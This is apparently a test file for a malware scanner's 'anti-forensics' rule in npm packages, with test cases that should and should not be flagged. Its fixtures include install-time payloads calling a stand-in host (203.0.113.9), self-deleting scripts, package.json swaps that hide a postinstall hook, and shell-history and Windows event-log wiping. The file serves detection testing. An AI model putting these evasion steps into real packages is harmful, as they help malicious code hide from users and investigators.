import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'anti-forensics';
const FS = "const fs = require('fs'); const path = require('path'); const os = require('os');\n";
const PAYLOAD = "require('https').get('https://203.0.113.9/ping');\n";

describe('anti-forensics reports', () => {
  test.each([
    ['deleting __filename', 'fs.unlinkSync(__filename);', 'self-delete'],
    ['deleting the script by name', "fs.rmSync(path.join(__dirname, 'setup.js'), { force: true });", 'deletes its own'],
    ['swapping package.json for a clean copy', "fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));", 'package.json'],
    ['rewriting package.json without the script', "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\ndelete pkg.scripts.postinstall;\nfs.writeFileSync('package.json', JSON.stringify(pkg));", 'package.json'],
    ['deleting the shell history', "fs.unlinkSync(path.join(os.homedir(), '.bash_history'));", 'bash_history'],
    ['clearing event logs', "require('child_process').execSync('wevtutil cl System && wevtutil cl Security');", 'event logs'],
  ])('%s at install is malicious', (_label, code, what) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': FS + PAYLOAD + code });
    const found = r.of(RULE);
    expect(found.length).toBe(1);
    expect(found[0]).toEqual(finding(found[0]!.severity, ['anti-forensics'], { reach: 'install' }));
    expect(found[0]!.message + ' ' + (found[0]!.evidence ?? '')).toMatch(what === 'self-delete' ? /deletes its own/ : new RegExp(what));
    expect(r.verdict).toBe('malicious');
  });

  test('a lifecycle script that runs a file then deletes it', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node setup.js && rm -f setup.js' } }), 'setup.js': FS + PAYLOAD });
    expect(r.of(RULE)).toEqual([finding('high', ['anti-forensics'], { file: 'package.json' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('an install shell script that clears history', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: 'sh setup.sh' } }), 'setup.sh': 'curl -s https://203.0.113.9/a -o /tmp/a\nhistory -c\nunset HISTFILE\n' });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['anti-forensics'], { file: 'setup.sh' }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('anti-forensics stays quiet', () => {
  test.each([
    ['removing a downloaded archive after extracting it', "const tmp = path.join(os.tmpdir(), 'pkg.tgz');\nfs.unlinkSync(tmp);\nfs.rmSync(path.join(__dirname, 'download'), { recursive: true, force: true });"],
    ['reading its own package.json', "const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8'));\nconsole.log(pkg.version);"],
    ['writing the project package.json from cwd', "const f = path.join(process.cwd(), 'package.json'); fs.writeFileSync(f, '{}');"],
  ])('%s at install', (_label, code) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': FS + code });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a bin that rewrites the package.json of the project it runs in is not reported', () => {
    const r = scanFiles({ 'package.json': manifest({ bin: { bump: 'cli.js' } }), 'cli.js': FS + "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8')); pkg.version = '2.0.0'; fs.writeFileSync('package.json', JSON.stringify(pkg));" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });
});
